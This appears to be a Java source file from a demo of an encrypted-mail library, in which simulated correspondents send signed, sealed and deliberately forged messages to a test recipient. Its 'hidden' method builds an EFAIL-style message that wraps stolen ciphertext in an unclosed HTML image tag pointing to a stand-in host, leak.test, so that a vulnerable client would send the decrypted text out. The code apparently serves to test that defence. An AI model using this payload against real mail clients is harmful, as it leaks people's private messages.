package org.sealpost.demo;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.InstantSource;
import java.util.Optional;
import org.sealpost.endtoend.UnfitKey;
import org.sealpost.mail.Address;
import org.sealpost.mime.HeaderFields;
import org.sealpost.mime.SplitEntity;

/** Finn and Mia at work, in the demo's own process. */
final class Peers {

    private static final String SAM = "sam@clinic.test";
    private static final String NO_KEY = "Nothing was sent: no key of Sam’s is known here. Let Sam write a signed message first.";

    private final Finn finn;
    private final Mia mia;
    private final PenFriend friend;
    private final Mailboxes mailboxes;
    private final InstantSource clock;

    Peers(Finn finn, Mia mia, PenFriend friend, Mailboxes mailboxes, InstantSource clock) {
        this.finn = finn;
        this.mia = mia;
        this.friend = friend;
        this.mailboxes = mailboxes;
        this.clock = clock;
    }

    static Peers here() {
        Path folder = MailboxJson.folder();
        Path published = Path.of(System.getProperty("sealpost.data"));
        InstantSource clock = InstantSource.system();
        SecureRandom random = new SecureRandom();
        Mailboxes mailboxes = MailboxJson.mailboxes();
        try {
            ClinicDirectory directory = new ClinicDirectory(URI.create(System.getProperty("sealpost.web.url")));
            return new Peers(new Finn(new FinnsKeys(folder, published, clock, random), mailboxes, directory, clock, random),
                    new Mia(published, mailboxes, clock, random), PenFriend.here(folder), mailboxes, clock);
        } catch (IOException | UnfitKey e) {
            throw new IllegalStateException("the keys of the demo's people can't be read", e);
        }
    }

    /** What a message says to its recipient; empty if it needs no key, or can't be opened. */
    Optional<Unsealed> read(Correspondent owner, byte[] octets) throws IOException {
        Optional<Peer> peer = peer(owner);
        return peer.isPresent() ? peer.get().read(octets) : Optional.empty();
    }

    /** Writes to Sam. */
    void write(PeerLetter letter) throws IOException, UnfitKey {
        Peer author = letter == PeerLetter.MIA_SIGNED || letter == PeerLetter.MIA_SEALED ? mia : finn;
        if (letter == PeerLetter.NEW_KEY) {
            finn.changeKey();
        }
        byte[] clear = Letters.toSam(author.who(), name(author), letter.subject(), letter.text(), clock.instant());
        Optional<byte[]> message = switch (letter) {
            case FINN_SIGNED, MIA_SIGNED, NEW_KEY -> Optional.of(author.signed(clear));
            case FINN_SEALED, MIA_SEALED -> author.sealed(clear, SAM);
            case FORGED -> Optional.of(finn.forged(clear));
            case HIDDEN_PART -> finn.sealed(clear, SAM).map(Peers::hidden);
        };
        send(author, message);
    }

    /** Answers a message: encrypted if there is a key of its author, and signed in any case. @return whether there is such a message */
    boolean answer(Correspondent owner, int number) throws IOException, UnfitKey {
        Optional<Peer> peer = peer(owner);
        Optional<Arrival> arrival = mailboxes.find(owner, number);
        if (peer.isEmpty() || arrival.isEmpty()) {
            return false;
        }
        Unsealed read = peer.get().read(arrival.get().octets()).orElseGet(() -> plain(arrival.get().octets()));
        Optional<String> author = Letters.author(read.header()).map(Address::toString);
        if (!author.equals(Optional.of(SAM))) {
            return false;
        }
        byte[] clear = Letters.answer(owner, name(peer.get()), read, "Thank you, it arrived whole.\n\n" + name(peer.get()), clock.instant());
        Optional<byte[]> sealed = peer.get().sealed(clear, SAM);
        send(peer.get(), Optional.of(sealed.isPresent() ? sealed.get() : peer.get().signed(clear)));
        return true;
    }

    private void send(Peer author, Optional<byte[]> message) throws IOException {
        if (message.isEmpty()) {
            friend.say(NO_KEY);
            return;
        }
        friend.write(author.who(), message.get());
    }

    private Optional<Peer> peer(Correspondent owner) {
        return switch (owner) {
            case FINN -> Optional.of(finn);
            case MIA -> Optional.of(mia);
            default -> Optional.empty();
        };
    }

    private static String name(Peer peer) {
        return peer.who() == Correspondent.MIA ? Mia.NAME : FinnsKeys.NAME;
    }

    private static Unsealed plain(byte[] octets) {
        try {
            HeaderFields header = SplitEntity.of(new ByteArrayInputStream(octets)).header();
            return new Unsealed(Optional.empty(), header, OpenedMail.of(octets), "", false);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    /** Somebody else's ciphertext as a part among others, so that a careless program asks a stranger's server for its plaintext (EFAIL). */
    static byte[] hidden(byte[] encrypted) {
        try {
            SplitEntity message = SplitEntity.of(new ByteArrayInputStream(encrypted));
            String type = message.header().bodies("Content-Type").get(0).strip();
            HeaderFields header = message.header();
            header.remove("Content-Type", "MIME-Version", "Autocrypt");
            header.change("Subject", PeerLetter.HIDDEN_PART.subject());
            ByteArrayOutputStream whole = new ByteArrayOutputStream();
            whole.writeBytes(header.octets());
            whole.writeBytes(lines("MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=\"efail\"", "", "--efail",
                    "Content-Type: text/html; charset=utf-8", "", "<p>Dear Sam, the plan is below.</p><img src=\"http://leak.test/?", "--efail",
                    "Content-Type: " + type, ""));
            message.rest().transferTo(whole);
            whole.writeBytes(lines("", "--efail", "Content-Type: text/html; charset=utf-8", "", "\">", "--efail--"));
            return whole.toByteArray();
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static byte[] lines(String... lines) {
        return (String.join("\r\n", lines) + "\r\n").getBytes(StandardCharsets.US_ASCII);
    }
}
